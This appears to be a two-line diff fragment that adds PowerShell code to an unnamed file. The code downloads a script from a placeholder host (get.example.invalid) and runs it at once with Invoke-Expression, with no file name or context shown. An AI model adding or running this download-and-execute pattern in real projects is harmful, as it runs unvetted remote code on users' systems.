@@ -1,0 +1,2 @@
+$code = Invoke-WebRequest https://get.example.invalid/a.ps1 -UseBasicParsing
+Invoke-Expression $code.Content
